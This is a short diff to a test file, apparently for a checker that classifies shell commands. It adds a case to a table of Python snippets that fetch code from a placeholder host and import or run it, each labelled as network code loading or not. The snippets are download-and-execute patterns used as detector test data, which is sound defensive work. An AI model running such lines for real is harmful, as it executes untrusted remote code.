@@ -45,6 +45,7 @@ test('a new file that runs what it receives gives a shell to others', () => {
 test.each([
   ['open("m.py", "w").write(requests.get("https://x.example/m").text)\nimport m', true],
   ['open("/tmp/m.py", "w").write(requests.get("https://x.example/m").text)\nimport m', true],
+  ['urllib.request.urlretrieve("https://x.example/m", "m.py")\nimport runpy\nrunpy.run_path("m.py")', true],
   ['open("m.csv", "w").write(requests.get("https://x.example/m").text)\nimport m', false],
 ])('%p loads code from the network: %p', (code, loads) => {
   const { effects } = readShell(`python3 - <<'E'\nimport requests\n${code}\nE`, world);
